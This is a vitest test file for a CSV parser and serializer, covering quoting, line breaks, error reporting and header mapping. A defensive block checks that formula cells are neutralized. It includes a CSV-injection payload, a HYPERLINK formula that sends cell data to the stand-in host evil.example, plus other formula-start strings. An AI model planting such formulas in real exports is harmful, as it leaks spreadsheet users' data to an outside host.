import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, parseCsv, parseCsvWithHeader, serializeCsv } from './csv.js';

describe('CSV (RFC 4180)', () => {
  it('parses plain fields, CRLF and LF line breaks, and a missing final line break', () => {
    expect(parseCsv('a,b,c\r\n1,2,3\n4,5,6')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
      ['4', '5', '6'],
    ]);
    expect(parseCsv('a,b\r\n1,2\r\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('parses quoted fields with embedded commas, doubled quotes and line breaks', () => {
    const text = 'name,note\r\n"Doe, Jane","She said ""hi""\r\nthen left"\r\n"",x\r\n';
    expect(parseCsv(text)).toEqual([
      ['name', 'note'],
      ['Doe, Jane', 'She said "hi"\r\nthen left'],
      ['', 'x'],
    ]);
  });

  it('keeps empty fields, including trailing ones', () => {
    expect(parseCsv('a,,c,\n,,,\n')).toEqual([
      ['a', '', 'c', ''],
      ['', '', '', ''],
    ]);
  });

  it('drops a byte-order mark and skips blank lines', () => {
    expect(parseCsv('\uFEFFemail\r\n\r\nx@y.z\r\n')).toEqual([['email'], ['x@y.z']]);
  });

  it('refuses an unterminated quote and text after a closing quote, naming the line', () => {
    expect(() => parseCsv('a\n"open,1\n')).toThrow(CsvSyntaxError);
    try {
      parseCsv('a\nb\n"x"y,1\n');
    } catch (error) {
      expect(error).toMatchObject({ line: 3 });
    }
    expect(() => parseCsv('a\nb\n"x"y,1\n')).toThrow(/closing quote/);
  });

  it('serializes with quotes only where needed, and round-trips', () => {
    const records = [
      ['email', 'labels', 'note'],
      ['a@b.c', 'vip, press', 'line one\nline "two"'],
      ['d@e.f', '', ' padded '],
    ];
    const text = serializeCsv(records);
    expect(text).toBe(
      'email,labels,note\r\na@b.c,"vip, press","line one\nline ""two"""\r\nd@e.f,," padded "\r\n',
    );
    expect(parseCsv(text)).toEqual(records);
  });

  it('maps rows to header columns with the line each row starts on', () => {
    const { columns, rows } = parseCsvWithHeader('Email, Name\r\na@b.c,"Two\nlines"\r\nd@e.f\r\n');
    expect(columns).toEqual(['email', 'name']);
    expect(rows).toEqual([
      { row: 2, values: { email: 'a@b.c', name: 'Two\nlines' } },
      { row: 4, values: { email: 'd@e.f', name: '' } },
    ]);
  });
});

describe('formula cells (CSV injection)', () => {
  it('writes cells a spreadsheet would run as text, and reads them back unchanged', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "'=already quoted",
      "''+two quotes",
    ];
    const text = serializeCsv([['name'], ...hostile.map((h) => [h])]);
    const cells = parseCsv(text)
      .slice(1)
      .map((r) => r[0]!);
    // No written cell starts with a formula character a spreadsheet would evaluate.
    for (const cell of cells) expect(cell).toMatch(/^'/);
    expect(parseCsvWithHeader(text).rows.map((r) => r.values.name)).toEqual(hostile);
  });

  it('leaves ordinary cells alone', () => {
    expect(serializeCsv([['Ann', "O'Brien", 'a-b', '1=1']])).toBe("Ann,O'Brien,a-b,1=1\r\n");
  });
});
